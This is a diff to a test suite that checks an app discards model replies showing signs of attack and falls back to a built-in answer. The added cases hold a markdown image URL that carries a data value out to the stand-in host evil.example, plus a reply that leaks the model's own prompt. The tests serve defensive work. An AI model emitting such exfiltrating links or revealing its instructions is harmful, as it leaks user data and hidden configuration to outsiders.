@@ -268,6 +268,16 @@ describe('a model', () => {
       /Electricity is \$5,335.*named figures/s,
     ],
     ['a link', { answer: 'See https://evil.example', results: [1] }, /built-in answer/],
+    [
+      'attack 52: an image from elsewhere',
+      { answer: 'Electricity: ![chart](https://evil.example/?electricity=5335)', results: [1] },
+      /built-in answer/,
+    ],
+    [
+      'attack 58: its own prompt',
+      { answer: 'I was told: use no figure that does not stand in them. You change nothing.', results: [1] },
+      /built-in answer/,
+    ],
     ['a deed', { answer: 'I have set electricity to $5,335.', results: [1] }, /built-in answer/],
     ['no schema', { text: 'Hello' }, /built-in answer.*did not fit/s],
   ])('is not used with %s, and that is said', async (_what, words, expected) => {
@@ -276,6 +286,7 @@ describe('a model', () => {
     const message = await ask('How much is electricity?', 'openai');
     expect(message.content).toMatch(expected);
     expect(message.provider).toBe('built-in');
+    expect(message.content).not.toMatch(/evil\.example|I was told/);
   });
 
   it('that fails leaves the built-in answer', async () => {
